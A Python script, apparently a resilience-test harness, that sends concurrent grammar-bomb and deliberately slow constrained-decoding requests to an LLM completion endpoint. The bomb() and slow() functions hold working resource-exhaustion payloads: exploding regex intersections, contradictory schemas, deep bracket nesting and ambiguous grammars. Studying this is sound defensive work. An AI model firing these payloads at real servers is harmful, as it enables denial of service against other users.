"""Requests whose grammars explode, and requests whose grammars are allowed and slow: sent from a process of their own,
so that whoever measures does not stand still while megabytes are written.

    python grammar_attacks.py URL bombs|slow COUNT

Says that it is ready, begins with the first line of standard input, and prints the status of each answer as it comes.
"""

from __future__ import annotations

import asyncio
import os
import sys
from typing import Any

import httpx

SLOW_TOKENS = 40


def bomb(number: int) -> dict[str, Any]:
    """Each another one, so that none is known already."""
    patterns = [f".*a.{{{at}}}" for at in range(1, 30)]
    return [
        {"guided_grammar": f"start: A{number}\nA{number}: " + " & ".join(f"/{pattern}/" for pattern in patterns)},
        {"guided_json": {"title": f"{number}", "allOf": [{"type": "string", "pattern": each} for each in patterns]}},
        {"guided_json": {"type": "integer", "multipleOf": 999_999 - number}},
        {"guided_grammar": "start: " + "[" * (65_000 - number)},
        {"guided_grammar": "root ::= " + "long " * 10_000 + f'\nlong ::= "{number}' + "x" * 10_000 + '"'},
    ][number % 5]


def slow(number: int) -> dict[str, Any]:
    """Ambiguous: it compiles at once, and every mask after the first word is slower than the one before it."""
    grammar = f"start: P s\nP: /[a-z ]{{{20 + number}}}/\ns: s s | W\nW: /[,.;:!?]/"
    return {"guided_grammar": grammar, "max_tokens": 20 + number + SLOW_TOKENS, "seed": number}


async def attack(url: str, kind: str, count: int) -> None:
    make = {"bombs": bomb, "slow": slow}[kind]
    limits = httpx.Limits(max_connections=count)
    async with httpx.AsyncClient(base_url=url, timeout=None, limits=limits) as client:

        async def send(number: int) -> None:
            answer = await client.post("/v1/completions", json={"prompt": "a", **make(number)})
            print(answer.status_code, flush=True)

        await asyncio.gather(*map(send, range(count)))


if __name__ == "__main__":
    os.nice(10)  # An attacker takes none of the server's cores.
    print("ready", flush=True)
    sys.stdin.readline()
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3])))
